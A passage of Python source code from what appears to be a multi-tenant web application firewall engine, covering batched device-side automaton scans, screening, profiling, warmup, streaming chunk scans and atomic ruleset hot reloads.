                        t_sym[:, c * B:(c + 1) * B], states, g.stride,
                        self.compose_chunk)
                else:
                    states = block(
                        st.tables, st.levels, g.classes, lm,
                        t_sym[:, c * B:(c + 1) * B], states, g.stride)
            return states
        block = self._jit_lane_block[mode]
        for c in range(W // B):
            if mode in ("compose", "bass_compose"):
                states = block(g.tables, g.classes, lm,
                               t_sym[:, c * B:(c + 1) * B], states,
                               self.compose_chunk)
            else:
                states = block(g.tables, g.classes, lm,
                               t_sym[:, c * B:(c + 1) * B], states)
        return states

    def _account_steps(self, g: _Group, width: int, stride: int,
                       stats: "EngineStats | None",
                       mode: str = "gather") -> None:
        """Record the sequential scan depth of one dispatch — executed
        steps (ceil(W / stride), or composition rounds in compose mode)
        vs the stride-1 cost of the same stream — so the step-reduction
        shows up in EngineStats/Metrics/bench."""
        if stats is None:
            return
        exp = transforms_jax.chain_expansion(g.transforms)
        W = width * exp
        if W > self.MAX_UNROLL:
            W += -W % self.MAX_UNROLL  # chained path pads to a block mult
        stats.scan_steps_stride1 += W
        if mode in ("compose", "bass_compose"):
            B = self.MAX_UNROLL
            depth = (automata_jax.compose_depth(W, stride,
                                                self.compose_chunk)
                     if W <= B else
                     (W // B) * automata_jax.compose_depth(
                         B, stride, self.compose_chunk))
            stats.scan_steps += depth
            stats.compose_rounds += depth
        else:
            stats.scan_steps += -(-W // stride)

    def _run_screen_scan(self, g: _Group, sym: np.ndarray):
        """Dispatch the screen scan, chunking the lane axis to MAX_LANES;
        returns the device array of accumulated masks WITHOUT syncing."""
        if sym.shape[0] <= self.MAX_LANES:
            return self._screen_scan_one(g, sym)
        return self._chunk_lanes(
            sym, lambda s, lo, hi: self._screen_scan_one(g, s[lo:hi]),
            self._jit_concat2d)

    def _screen_scan_one(self, g: _Group, sym: np.ndarray):
        scr = g.screen
        exp = transforms_jax.chain_expansion(g.transforms)
        ss = g.screen_strided
        smode = g.screen_mode
        if ss is not None:
            if sym.shape[1] * exp <= self.MAX_UNROLL:
                return self._jit_screen_strided(
                    g.transforms, smode, ss.stride, ss.table, ss.levels,
                    scr.classes, ss.masks, sym)
            t_sym = self._jit_transform(g.transforms, sym)
            W = t_sym.shape[1]
            state = np.zeros(sym.shape[0], dtype=np.int32)
            acc = np.zeros((sym.shape[0], scr.masks.shape[1]),
                           dtype=np.int32)
            B = self.MAX_UNROLL
            block = self._jit_screen_block_strided[smode]
            for c in range(W // B):
                if smode == "bass_screen":
                    state, acc = block(
                        ss.table, ss.levels, scr.classes, ss.masks,
                        t_sym[:, c * B:(c + 1) * B], state, acc,
                        ss.stride, self.compose_chunk)
                else:
                    state, acc = block(
                        ss.table, ss.levels, scr.classes, ss.masks,
                        t_sym[:, c * B:(c + 1) * B], state, acc,
                        ss.stride)
            return acc
        if sym.shape[1] * exp <= self.MAX_UNROLL:
            return self._jit_screen(g.transforms, smode, scr.table,
                                    scr.classes, scr.masks, sym)
        t_sym = self._jit_transform(g.transforms, sym)
        W = t_sym.shape[1]  # post-transform, padded to a block multiple
        state = np.zeros(sym.shape[0], dtype=np.int32)
        acc = np.zeros((sym.shape[0], scr.masks.shape[1]), dtype=np.int32)
        B = self.MAX_UNROLL
        block = self._jit_screen_block[smode]
        for c in range(W // B):
            if smode == "bass_screen":
                state, acc = block(
                    scr.table, scr.classes, scr.masks,
                    t_sym[:, c * B:(c + 1) * B], state, acc,
                    self.compose_chunk)
            else:
                state, acc = block(
                    scr.table, scr.classes, scr.masks,
                    t_sym[:, c * B:(c + 1) * B], state, acc)
        return acc

    def _screen_group_async(self, g: _Group,
                            batch: "list[tuple[str, _ValueProvider, set[int]]]",
                            work: list[tuple[int, int, int]],
                            stats: EngineStats | None,
                            profile=None):
        """Launch the group's union screen without awaiting the result.

        Returns a tagged pending value for _screen_collect: ("all", None)
        = dispatch everything, ("set", allowed) = decided host-side,
        ("dev", ...) = device result in flight."""
        scr = g.screen
        if scr is None:
            return ("all", None)
        if all(row in g.unscreenable for (_, row, _) in work):
            return ("all", None)  # nothing the scan could decide
        items = sorted({i for (i, _, _) in work})
        unions: list[list[bytes]] = []
        for i in items:
            key, provider, active = batch[i]
            seen_specs: set[tuple] = set()
            seen: set[bytes] = set()
            union: list[bytes] = []
            for mid, row in g.row_of[key].items():
                if row in g.unscreenable or mid not in active:
                    continue
                m = g.rows[row][1]
                if m.variables in seen_specs:
                    continue  # same target spec -> same values
                seen_specs.add(m.variables)
                for v in provider.values(m):
                    if v not in seen:
                        seen.add(v)
                        union.append(v)
            unions.append(union)
        if not any(unions):
            # empty streams can't contain factors: only unscreenable rows
            # survive, no scan needed
            return ("set", {(i, row) for (i, row, _) in work
                            if row in g.unscreenable})
        L = self.bucket_for(max(
            (sum(len(v) + 2 for v in u) for u in unions), default=2))
        sym = np.full((len(items), L), PAD, dtype=np.int32)
        trunc = np.zeros(len(items), dtype=bool)
        for j, union in enumerate(unions):
            sym[j], trunc[j] = build_stream(union, L)
        n = len(items)
        n_pad = -n % LANE_PAD
        sym = np.pad(sym, ((0, n_pad), (0, 0)), constant_values=PAD)
        if profile is not None:
            # profiled batch only: materialize the union byte lengths
            # for the bucket-fill histogram (screens dominate benign
            # traffic, so ladder re-derivation needs their fills too)
            profile.record_bucket_fill(
                L, [sum(len(v) + 2 for v in u) for u in unions],
                n, n + n_pad)
        acc_dev = self._run_screen_scan(g, sym)
        if stats is not None:
            stats.screen_lanes += n
            stats.lanes_padded += n_pad
            stats.screen_dispatches += 1
            self._account_steps(
                g, sym.shape[1],
                g.screen_strided.stride if g.screen_strided else 1, stats)
        item_idx = {i: j for j, i in enumerate(items)}
        return ("dev", (acc_dev, trunc, item_idx, n, L, n + n_pad))

    def _screen_collect(self, g: _Group,
                        work: list[tuple[int, int, int]],
                        screen) -> set | None:
        """Await a _screen_group_async result -> allowed (item, row) set
        (a superset of the truth — see compiler/screen.py), or None
        meaning "dispatch everything"."""
        tag, payload = screen
        if tag == "all":
            return None
        if tag == "set":
            return payload
        acc_dev, trunc, item_idx, n = payload[:4]
        # "np": pre-fetched by the batched phase-A sync; "dev": fetch here
        acc = (acc_dev if tag == "np" else np.asarray(acc_dev))[:n]
        allowed: set[tuple[int, int]] = set()
        for (i, row, _mid) in work:
            j = item_idx[i]
            hit = bool((acc[j, row // 32] >> (row % 32)) & 1)
            if row in g.unscreenable or hit or trunc[j]:
                allowed.add((i, row))
        return allowed

    def _screen_fetch(self, group_work, screens, batch, profile) -> None:
        """Fetch every in-flight ("dev", ...) screen result in place,
        turning it into ("np", ...). One batched round trip normally; on
        profiled batches each program is fetched individually with a
        timed blocking np.asarray and attributed under the group's OWN
        screen kernel key (mode = g.screen_mode) with the screen table
        dims, so the profiler's cost join prices screen programs exactly
        like scan programs."""
        dev_idx = [k for k, (tag, _) in enumerate(screens)
                   if tag == "dev"]
        if dev_idx and profile is not None:
            # profiled batch: fetch each screen result individually with
            # a timed blocking np.asarray — the device executes issued
            # programs in order on one stream, so consecutive blocking
            # fetches measure per-program residency. The batched concat
            # is simply skipped; no device op is added or removed.
            for k in dev_idx:
                g = group_work[k][0]
                _, (acc_dev, trunc, item_idx, n, L, n_tot) = screens[k]
                t0 = time.monotonic()
                arr = np.asarray(acc_dev)
                dt = time.monotonic() - t0
                tcounts: dict[str, int] = {}
                for i in item_idx:
                    tk = batch[i][0]
                    tcounts[tk] = tcounts.get(tk, 0) + 1
                scr_eff = (g.screen_strided if g.screen_strided is not None
                           else g.screen)
                profile.record_program(
                    "|".join(g.transforms) or "none", L, g.screen_mode,
                    g.screen_strided.stride if g.screen_strided else 1,
                    dt, lanes=n, lanes_padded=n_tot, tenants=tcounts,
                    dims=(1,) + tuple(scr_eff.table.shape))
                screens[k] = ("np", (arr, trunc, item_idx, n))
        elif dev_idx:
            fetched = self._fetch_all_2d(
                [screens[k][1][0] for k in dev_idx])
            for k, arr in zip(dev_idx, fetched):
                _, (acc_dev, trunc, item_idx, n, _L, _nt) = screens[k]
                screens[k] = ("np", (arr, trunc, item_idx, n))

    def screen_bits_issue(self,
                          batch: "list[tuple[str, _ValueProvider, set[int]]]",
                          stats: EngineStats | None = None,
                          profile=None) -> "PendingScreen":
        """Wave 0: launch ONLY the union screens for the batch, without
        any lane scans. The fast-accept path collects these first
        (screen_bits_collect) and may resolve request-only items before
        a single scan wave issues; the surviving items reuse the SAME
        screen results via match_bits_issue(..., screens=...), so
        screen work is never repeated."""
        if self.fault is not None:
            self.fault.check("device-stall")
            self.fault.check("device-exception")
        group_work: list[tuple[_Group, list[tuple[int, int, int]]]] = []
        for g in self.groups:
            work = [
                (i, row, mid)
                for i, (key, _provider, active) in enumerate(batch)
                for mid, row in (g.row_of.get(key) or {}).items()
                if mid in active
            ]
            if work:
                group_work.append((g, work))
        screens = [self._screen_group_async(g, batch, work, stats,
                                            profile=profile)
                   for g, work in group_work]
        return PendingScreen(batch=batch, group_work=group_work,
                             screens=screens, n_items=len(batch))

    def screen_bits_collect(self, ps: "PendingScreen",
                            profile=None) -> "list[set[int]]":
        """Await wave 0 -> per-item sets of screen-proven-False mids.

        A mid is proven False for item i exactly when its (i, row) pair
        was screened out (no-false-negative contract,
        compiler/screen.py). The allowed sets are memoized on ps so the
        follow-up match_bits_issue(screens=ps) reuses them without
        re-deciding."""
        self._screen_fetch(ps.group_work, ps.screens, ps.batch, profile)
        mids_false: list[set[int]] = [set() for _ in range(ps.n_items)]
        ps.allowed = []
        for (g, work), screen in zip(ps.group_work, ps.screens):
            allowed = self._screen_collect(g, work, screen)
            ps.allowed.append(allowed)
            if allowed is None:
                continue
            for (i, row, mid) in work:
                if (i, row) not in allowed:
                    mids_false[i].add(mid)
        ps.collected = True
        return mids_false

    def match_bits_issue(self,
                         batch: "list[tuple[str, _ValueProvider, set[int]]]",
                         stats: EngineStats | None = None,
                         profile=None, screens: "PendingScreen | None" = None,
                         skip_items: "set[int] | None" = None
                         ) -> "PendingMatch":
        """batch[i] = (tenant_key, value_provider, active_mids) -> a
        PendingMatch whose lane scans are in flight on the device. Values
        are pulled lazily through the provider (memoized per variable
        spec), so screened-out matchers never cost an extraction. Per
        chain group: one union-screen dispatch over every item, then one
        dedicated-lane dispatch covering only the screened-in
        (item, matcher) pairs.

        Dispatch is phased — every group's screen launches before any
        result is awaited, then every group's lane scan — so device work
        overlaps host packing and launch latency amortizes across groups
        (jax dispatch is async). The only sync here is the one batched
        screen fetch; the lane results stay on device until
        match_bits_collect.

        ``profile`` (a runtime/profiler.ProgramProfiler, on head-sampled
        batches only) switches the screen fetch — and, via PendingMatch,
        the collect fetch — to per-program timed ``np.asarray`` calls in
        issue order. No device op changes either way; the unsampled path
        keeps the exact batched single-sync structure above.

        ``screens`` (a PendingScreen from screen_bits_issue, already
        collected) reuses the wave-0 screen results instead of phase A —
        no screen program is ever dispatched twice. ``skip_items`` marks
        batch positions already resolved by the fast-accept wave: their
        screen-proven-False bits are still written (they are real
        results) but no lane is packed or dispatched for them."""
        if self.fault is not None and screens is None:
            self.fault.check("device-stall")
            self.fault.check("device-exception")
        out: list[dict[int, bool]] = [{} for _ in batch]
        if screens is not None:
            group_work = screens.group_work
            screen_results = screens.screens
            allowed_list = screens.allowed
        else:
            group_work = []
            for g in self.groups:
                work = [
                    (i, row, mid)
                    for i, (key, _provider, active) in enumerate(batch)
                    for mid, row in (g.row_of.get(key) or {}).items()
                    if mid in active
                ]
                if work:
                    group_work.append((g, work))

            # phase A: launch every group's screen, then fetch ALL
            # results in one round trip (each sync through the device
            # tunnel costs ~90ms; async launches cost ~3ms — see
            # DEVELOPMENT.md)
            screen_results = [
                self._screen_group_async(g, batch, work, stats,
                                         profile=profile)
                for g, work in group_work]
            self._screen_fetch(group_work, screen_results, batch, profile)
            allowed_list = None

        # phase B: pack + launch every group's lanes (counted as issued
        # here — a dispatch happened whether or not it is ever collected)
        pending = []
        profile_meta = [] if profile is not None else None
        lanes_per_item: dict[int, int] = {}
        for k, ((g, work), screen) in enumerate(
                zip(group_work, screen_results)):
            allowed = (allowed_list[k] if allowed_list is not None
                       else self._screen_collect(g, work, screen))
            lane_vals: list[list[bytes]] = []
            lane_row: list[int] = []
            lane_item: list[int] = []
            lane_mid: list[int] = []
            for (i, row, mid) in work:
                if skip_items is not None and i in skip_items:
                    # fast-accepted item: its verdict is already final.
                    # Screen-proven bits are sound to record; unproven
                    # pairs get no bit at all (never a guessed False)
                    if allowed is not None and (i, row) not in allowed:
                        out[i][mid] = False
                    if stats is not None:
                        stats.lanes_screened_out += 1
                    continue
                if allowed is not None and (i, row) not in allowed:
                    out[i][mid] = False
                    if stats is not None:
                        stats.lanes_screened_out += 1
                    continue
                lane_vals.append(batch[i][1].values(g.rows[row][1]))
                lane_row.append(row)
                lane_item.append(i)
                lane_mid.append(mid)
            if not lane_vals:
                continue
            if profile is not None:
                # profiled batch: materialize the per-lane byte lengths
                # for the bucket-fill histogram (waf_bucket_occupancy);
                # the unsampled hot path keeps the allocation-free
                # generator max
                needs = [sum(len(v) + 2 for v in vals)
                         for vals in lane_vals]
                max_needed = max(needs, default=2)
            else:
                needs = None
                max_needed = max(
                    (sum(len(v) + 2 for v in vals) for vals in lane_vals),
                    default=2)
            L = self.bucket_for(max(max_needed, 2))
            streams = np.full((len(lane_vals), L), PAD, dtype=np.int32)
            truncated = np.zeros(len(lane_vals), dtype=bool)
            for j, vals in enumerate(lane_vals):
                streams[j], truncated[j] = build_stream(vals, L)
            lane_matcher = np.asarray(lane_row, dtype=np.int32)
            n = len(lane_vals)
            n_pad = -n % LANE_PAD
            sym = np.pad(streams, ((0, n_pad), (0, 0)),
                         constant_values=PAD)
            lm = np.pad(lane_matcher, (0, n_pad))
            final_dev = self._run_lane_scan(g, lm, sym)
            pending.append((g, final_dev, lane_matcher, truncated,
                            lane_item, lane_mid, n))
            if profile_meta is not None:
                profile.record_bucket_fill(L, needs, n, n + n_pad)
                tcounts = {}
                for i in lane_item:
                    tk = batch[i][0]
                    tcounts[tk] = tcounts.get(tk, 0) + 1
                tab = (g.strided.tables
                       if g.stride > 1 and g.strided is not None
                       else g.tables)
                profile_meta.append({
                    "group": "|".join(g.transforms) or "none",
                    "bucket": int(sym.shape[1]),
                    "mode": g.scan_mode,
                    "stride": g.stride,
                    "lanes": n,
                    "lanes_padded": n + n_pad,
                    "tenants": tcounts,
                    "dims": tuple(tab.shape) if tab is not None else None,
                })
            for i in lane_item:
                lanes_per_item[i] = lanes_per_item.get(i, 0) + 1
            if stats is not None:
                stats.device_lanes += n
                stats.lanes_padded += n_pad
                stats.device_dispatches += 1
                self._account_steps(g, sym.shape[1], g.stride, stats,
                                    g.scan_mode)
        return PendingMatch(out=out, pending=pending,
                            lanes_per_item=lanes_per_item,
                            profile=profile, profile_meta=profile_meta)

    def match_bits_collect(self, pm: "PendingMatch"
                           ) -> list[dict[int, bool]]:
        """The sync point: fetch every issued group's lane result in one
        round trip and fill in the remaining bits. On profiled batches
        (pm.profile set) each program is fetched individually with a
        timed blocking call instead — same results, per-program
        attribution, extra syncs only on the sampled batch."""
        out, pending = pm.out, pm.pending
        if self.fault is not None:
            # seeded tail-latency inflation at the sync point: the batch
            # still resolves, just late — exercises slack prediction and
            # SLO burn, unlike device-stall's fixed wedge at issue
            self.fault.check("device-slow")
        if pending:
            if pm.profile is not None:
                finals = []
                for p, meta in zip(pending, pm.profile_meta):
                    t0 = time.monotonic()
                    arr = np.asarray(p[1])
                    pm.profile.record_program(
                        meta["group"], meta["bucket"], meta["mode"],
                        meta["stride"], time.monotonic() - t0,
                        lanes=meta["lanes"],
                        lanes_padded=meta["lanes_padded"],
                        tenants=meta["tenants"], dims=meta["dims"])
                    finals.append(arr)
            else:
                finals = self._fetch_all_1d([p[1] for p in pending])
            for (g, _dev, lane_matcher, truncated, lane_item, lane_mid,
                 n), final in zip(pending, finals):
                bits = (final[:n] == g.accepts[lane_matcher]) | truncated
                for b, i, mid in zip(bits, lane_item, lane_mid):
                    out[i][mid] = bool(b)
            pm.pending = []
        return out

    def match_bits(self,
                   batch: "list[tuple[str, _ValueProvider, set[int]]]",
                   stats: EngineStats | None = None
                   ) -> list[dict[int, bool]]:
        """Synchronous convenience: issue + collect in one call."""
        return self.match_bits_collect(self.match_bits_issue(batch, stats))

    def warmup(self, lengths: tuple[int, ...] = (128, 256),
               lanes: tuple[int, ...] = (LANE_PAD,),
               block: bool = True) -> int:
        """Pre-trace/compile the jitted programs for the given (L, N)
        shape buckets by dispatching PAD-only dummy batches through every
        group's lane and screen paths. On real silicon each new shape
        costs a multi-minute neuronx-cc compile; running it here (e.g.
        from a hot-reload hook) keeps it off the first request's latency.
        Returns the number of (group, L, N) shapes dispatched."""
        import jax

        issued = []
        count = 0
        cache = self.compile_cache
        for gi, g in enumerate(self.groups):
            for L in lengths:
                for n in lanes:
                    shape_key = (gi, L, n)
                    ft0 = cache.fresh_traces if cache is not None else 0
                    sym = np.full((n, L), PAD, dtype=np.int32)
                    lm = np.zeros(n, dtype=np.int32)
                    issued.append(self._run_lane_scan(g, lm, sym))
                    if g.screen is not None:
                        issued.append(self._run_screen_scan(g, sym))
                    if shape_key in self._shapes_seen:
                        self.warmup_hits += 1
                    elif (cache is not None
                          and cache.fresh_traces == ft0):
                        # every program this shape needed was served off
                        # the persistent cache (or was already live):
                        # a warm start is a trace-cache hit, not a miss
                        self._shapes_seen.add(shape_key)
                        self.warmup_hits += 1
                    else:
                        self._shapes_seen.add(shape_key)
                        self.warmup_misses += 1
                    count += 1
        if block:
            for arr in issued:
                jax.block_until_ready(arr)
        return count

    # -- streaming (carried-state chunk scans) ----------------------------
    def stream_open(self, key: str) -> StreamScan:
        """Open a carried-state scan over ``key``'s chunk-streamable
        lanes (possibly none — stream_step is then a no-op and the
        stream is buffer-only)."""
        lanes = []
        nbytes = 0
        for gi, g in enumerate(self.groups):
            if g.rp is not None or g.tables is None:
                continue
            if any(t not in transforms_jax.ELEMENTWISE
                   for t in g.transforms):
                continue
            rows = [(mid, row)
                    for mid, row in (g.row_of.get(key) or {}).items()
                    if _chunk_streamable(g.rows[row][1])]
            if not rows:
                continue
            lm = np.asarray([r for _, r in rows], dtype=np.int32)
            lanes.append([gi, lm, g.starts[lm].astype(np.int32),
                          g.accepts[lm].astype(np.int32),
                          [mid for mid, _ in rows]])
            nbytes += 3 * lm.nbytes
        return StreamScan(model=self, tenant=key, lanes=lanes,
                          state_bytes=nbytes)

    def stream_step(self, scan: StreamScan, data: bytes,
                    stats: "EngineStats | None" = None) -> set[int]:
        """Advance every carried lane by one body chunk through the SAME
        block programs buffered scans chain (_scan_blocks), resuming
        from the carried states; returns the mids whose lanes NEWLY
        reached their accept state (sticky across chunks). All groups
        are issued before the one batched fetch; chunk widths are
        bucketed so repeat dispatches hit the jit trace cache."""
        if scan.model is not self:
            raise StaleStreamState("model swapped mid-stream")
        first, scan.first = scan.first, False
        scan.chunks += 1
        if not scan.lanes or (not data and not first):
            return set()
        L = self.bucket_for(len(data) + 1)
        row = build_chunk_symbols(data, first, L)
        issued = []
        for entry in scan.lanes:
            gi, lm, states, _accepts, _mids = entry
            g = self.groups[gi]
            n = lm.shape[0]
            n_pad = -n % LANE_PAD
            sym = np.tile(row, (n + n_pad, 1))
            lmp = np.pad(lm, (0, n_pad))
            st0 = np.pad(states, (0, n_pad))
            t_sym = self._jit_transform(g.transforms, sym)
            issued.append((entry, n,
                           self._scan_blocks(g, lmp, t_sym, st0)))
            if stats is not None:
                stats.device_dispatches += 1
                stats.device_lanes += n
                stats.lanes_padded += n_pad
                self._account_steps(g, sym.shape[1], g.stride, stats,
                                    g.scan_mode)
        new_hits: set[int] = set()
        finals = self._fetch_all_1d([dev for _, _, dev in issued])
        for (entry, n, _dev), final in zip(issued, finals):
            _gi, _lm, _states, accepts, mids = entry
            final = np.asarray(final[:n], dtype=np.int32)
            entry[2] = final  # the carry for the next chunk
            for mid, hit in zip(mids, final == accepts):
                if hit and mid not in scan.hits:
                    scan.hits.add(mid)
                    new_hits.add(mid)
        return new_hits


@dataclass
class PendingMatch:
    """An issued-but-uncollected match round (device work in flight)."""

    out: list[dict[int, bool]]
    # per-group (g, final_dev, lane_matcher, truncated, lane_item,
    # lane_mid, n) tuples awaiting the phase-C fetch
    pending: list[tuple]
    # batch position -> lane-scan lanes issued for it (wasted-work stat)
    lanes_per_item: dict[int, int]
    # head-sampled batches only: the ProgramProfiler to report timed
    # collects to, plus per-pending-entry key/attribution metadata
    profile: "object | None" = None
    profile_meta: "list[dict] | None" = None

    @property
    def n_lanes(self) -> int:
        return sum(self.lanes_per_item.values())


@dataclass
class PendingScreen:
    """An issued-but-uncollected wave-0 screen round (screen programs in
    flight, no lane scans yet). screen_bits_collect fills ``allowed``;
    match_bits_issue(screens=...) then reuses both the group work lists
    and the collected screen decisions verbatim."""

    batch: list
    # [(g, [(item, row, mid), ...]), ...] — identical structure to
    # match_bits_issue's own group walk (same model, same batch)
    group_work: list
    # per-group tagged pendings from _screen_group_async, mutated in
    # place to ("np", ...) by the fetch
    screens: list
    n_items: int
    # per-group allowed (item, row) sets (None = dispatch everything),
    # memoized by screen_bits_collect
    allowed: "list | None" = None
    collected: bool = False


class MultiTenantEngine:
    """The data-plane engine behind the ext_proc sidecar: N tenants, one
    device automaton bank, exact host verdicts.

    Dispatch is wave-pipelined: all of a wave's group kernels are issued
    before any result is collected, and the wave-2 (body) scans are
    issued speculatively before the host phase-1 walk so the device chews
    on them while Python walks rules. ``sync_dispatch=True`` (or env
    ``WAF_SYNC_DISPATCH=1``) forces the fully serialized
    issue-collect-walk order for differential testing."""

    # bodies beyond this are not worth double-parsing for speculation
    # (the speculative wave needs its own body-processed transaction)
    SPECULATE_BODY_MAX = 1 << 20

    def __init__(self, mode: "str | None" = None,
                 sync_dispatch: bool | None = None,
                 fault_injector=None,
                 scan_stride: "int | str | None" = None,
                 rp_context=None,
                 fast_accept: "bool | None" = None):
        from ..config import env as envcfg
        from .resilience import FaultInjector

        # None defers to WAF_SCAN_MODE at model-build time (default
        # auto = gather); CombinedModel resolves + validates
        self.mode = mode
        # None defers to WAF_SCAN_STRIDE at table-build time (default
        # auto: stride 2 where the composed tables fit the size budget)
        self.scan_stride = scan_stride
        # rp table-sharding policy hook for oversized rule groups
        # (parallel/sharded_engine.RpShardContext); None = single chip
        self.rp_context = rp_context
        # live kernel plan (autotune.plan.Plan or None = env defaults):
        # every swap rebuilds under it, install_plan replaces it
        self.plan = None
        self.sync_dispatch = (envcfg.get_bool("WAF_SYNC_DISPATCH")
                              if sync_dispatch is None else sync_dispatch)
        # screen-first fast-accept wave (WAF_FAST_ACCEPT, default off):
        # wave-0 screens resolve request-only items whose every wave<=2
        # gate is screen-proven False, before any scan wave issues. The
        # live plan's fast_accept (autotune.plan.Plan) overrides this
        # when set — see _fast_accept_enabled
        self.fast_accept = (envcfg.get_bool("WAF_FAST_ACCEPT")
                            if fast_accept is None else fast_accept)
        # deterministic chaos hooks (tests pass an injector; operators set
        # WAF_FAULT_INJECT); None = zero-overhead no-op
        self.fault = (fault_injector if fault_injector is not None
                      else FaultInjector.from_env())
        # persistent executable cache (WAF_COMPILE_CACHE_DIR; None = off).
        # Plain attribute so ShardedEngine can hand every chip ONE shared
        # cache the same way it shares the profiler; each _swap hands the
        # then-current cache to the new CombinedModel, so entries written
        # by an old epoch keep serving the new one (digests are value
        # independent — a hot reload re-traces nothing).
        from .compile_cache import CompileCache
        self.compile_cache = CompileCache.from_env(
            fault_injector=self.fault)
        # (tenants, model) live in ONE attribute so readers snapshot both
        # with a single atomic load — a two-attribute store could pair new
        # tenant states (fresh mids) with old tables
        self._state: tuple[dict[str, TenantState], CombinedModel | None] = (
            {}, None)
        self.stats = EngineStats()
        # flight recorder (runtime/tracing.TraceRecorder); attached by
        # the batcher the same way Metrics providers are. When set,
        # set_tenant/warmup record epoch/recompile event traces and
        # inspect_batch closes device/host/verdict spans on traced items.
        self.trace_recorder = None
        # per-program device profiler (runtime/profiler.ProgramProfiler);
        # attached by the batcher like the recorder. When set, every
        # 1/WAF_PROFILE_SAMPLE-th inspect_batch collects its programs
        # through timed per-program fetches instead of the batched sync.
        self.profiler = None

    @property
    def tenants(self) -> dict[str, TenantState]:
        return self._state[0]

    @property
    def model(self) -> "CombinedModel | None":
        return self._state[1]

    # -- tenant lifecycle (hot reload) ------------------------------------
    def _build_model(self, tenants: dict[str, TenantState],
                     plan=None) -> "CombinedModel | None":
        """Build a CombinedModel off to the side WITHOUT installing it —
        the shared first half of every swap. ``plan`` is the kernel plan
        the model compiles under (None = env defaults)."""
        if not any(t.compiled.matchers for t in tenants.values()):
            return None
        return CombinedModel(tenants, self.mode,
                             fault_injector=self.fault,
                             scan_stride=self.scan_stride,
                             rp_context=self.rp_context,
                             compile_cache=self.compile_cache,
                             plan=plan)

    def _install(self, tenants: dict[str, TenantState],
                 model: "CombinedModel | None") -> None:
        """The atomic second half of a swap: publish the (tenants, model)
        pair and refresh the epoch/footprint stats."""
        # atomic swap: in-flight batches keep the old (tenants, model) pair
        self._state = (tenants, model)
        # refresh the table-footprint/stride snapshot (counters persist)
        s = self.stats
        s.reload_epoch += 1
        s.stride_groups = {}
        s.mode_groups = {**{m: 0 for m in SCAN_MODES}, "bass_screen": 0}
        s.base_table_entries = 0
        s.stride_table_entries = 0
        s.table_padding_entries = 0
        s.rp_sharded_groups = 0
        if model is not None:
            for g in model.groups:
                s.stride_groups[g.stride] = \
                    s.stride_groups.get(g.stride, 0) + 1
                s.mode_groups[g.scan_mode] = \
                    s.mode_groups.get(g.scan_mode, 0) + 1
                if g.screen is not None and g.screen_mode == "bass_screen":
                    s.mode_groups["bass_screen"] = \
                        s.mode_groups.get("bass_screen", 0) + 1
                s.base_table_entries += g.base_entries
                s.stride_table_entries += g.strided_entries
                s.table_padding_entries += g.padding_entries
                s.rp_sharded_groups += int(g.rp is not None)
        s.lint_diagnostics = {
            key: dict(t.lint_counts) for key, t in tenants.items()
            if t.lint_counts is not None}

    def _swap(self, tenants: dict[str, TenantState]) -> None:
        self._install(tenants, self._build_model(tenants, self.plan))

    # -- kernel plan (autotune/applier.py drives these) --------------------
    def build_candidate(self, plan) -> tuple:
        """Build (but do NOT install) a model under ``plan`` against the
        current tenants: the background pre-trace half of a plan swap.
        Returns the ``(tenants, model)`` candidate for install_plan.
        Raises (and leaves the live plan untouched) on compile failure —
        injected ones included."""
        if self.fault is not None:
            self.fault.check("compile-failure")
        tenants = self._state[0]
        t0 = time.monotonic()
        model = self._build_model(tenants, plan)
        s = self.stats
        s.recompile_total["autotune_candidate"] = \
            s.recompile_total.get("autotune_candidate", 0) + 1
        s.compile_seconds_total += time.monotonic() - t0
        return tenants, model

    def install_plan(self, plan, candidate: tuple | None = None) -> bool:
        """Make ``plan`` the live kernel plan (an atomic epoch-bumping
        swap, exactly like a tenant hot reload). With a ``candidate``
        from build_candidate, the pre-built model is installed only if
        the tenant set is unchanged since the build — a hot reload that
        raced the pre-trace returns False and installs nothing (the
        reload already rebuilt on the then-live plan). Without one, the
        model is rebuilt inline."""
        if candidate is not None:
            tenants, model = candidate
            if self._state[0] is not tenants:
                return False  # hot reload raced the background pre-trace
            self.plan = plan
            self._install(tenants, model)
            return True
        self.plan = plan
        self._swap(dict(self.tenants))
        return True

    def set_tenant(self, key: str, ruleset_text: str | None = None,
                   compiled: CompiledRuleSet | None = None,
                   version: str = "", warmup: bool = False,
                   analyze: bool = False) -> None:
        """Install/replace a tenant's ruleset (atomic swap). With
        ``warmup=True`` the new combined model's shape buckets are
        pre-traced on a background thread, so the first request after a
        hot reload does not pay jit/neuronx-cc compile time. With
        ``analyze=True`` the waf-lint analyzer runs over the compiled
        ruleset and its per-severity diagnostic counts surface through
        EngineStats/Metrics (the production poller path enables this;
        the default stays off so tests/benches don't pay analyzer time)."""
        t_compile0 = time.monotonic()
        reason = "artifact"
        if compiled is None:
            if ruleset_text is None:
                raise ValueError("need ruleset_text or compiled")
            if self.fault is not None:
                self.fault.check("compile-failure")
            compiled = compile_ruleset(ruleset_text)
            reason = "ruleset_text"
        state = TenantState.build(key, compiled, version)
        if analyze:
            from ..analysis import analyze_compiled
            state.lint_counts = analyze_compiled(
                compiled, scan_stride=self.scan_stride).counts()
        tenants = dict(self.tenants)
        tenants[key] = state
        t_swap0 = time.monotonic()
        self._swap(tenants)
        t_swap1 = time.monotonic()
        s = self.stats
        s.recompile_total[reason] = s.recompile_total.get(reason, 0) + 1
        s.recompile_total["model_rebuild"] = \
            s.recompile_total.get("model_rebuild", 0) + 1
        s.compile_seconds_total += t_swap1 - t_compile0
        rec = self.trace_recorder
        if rec is not None:
            spans = [("recompile", t_compile0, t_swap0,
                      {"reason": reason}),
                     ("epoch", t_swap0, t_swap1,
                      {"epoch": s.reload_epoch})]
            rec.record_event("epoch", key, spans, reason=reason,
                             epoch=s.reload_epoch,
                             compile_cache=self.compile_cache is not None)
        if warmup:
            model = self._state[1]
            if model is not None:
                import threading

                threading.Thread(target=self._warmup_async,
                                 args=(model, key),
                                 name=f"waf-warmup-{key}",
                                 daemon=True).start()

    def _warmup_async(self, model: CombinedModel, key: str) -> None:
        """Background hot-reload warmup with compile telemetry; the model
        is pinned so a concurrent swap can't redirect the pre-trace."""
        try:
            self._warmup_model(model, key)
        except Exception:
            pass  # warmup is best-effort; the first request pays instead

    def _warmup_model(self, model: CombinedModel, key: str,
                      lengths: tuple[int, ...] = (128, 256),
                      lanes: tuple[int, ...] = (LANE_PAD,),
                      block: bool = True) -> int:
        """Run one warmup pass over ``model`` and fold the trace-cache
        hit/miss deltas + compile seconds into EngineStats."""
        cache = model.compile_cache
        c0 = cache.stats() if cache is not None else None
        t0 = time.monotonic()
        h0, m0 = model.warmup_hits, model.warmup_misses
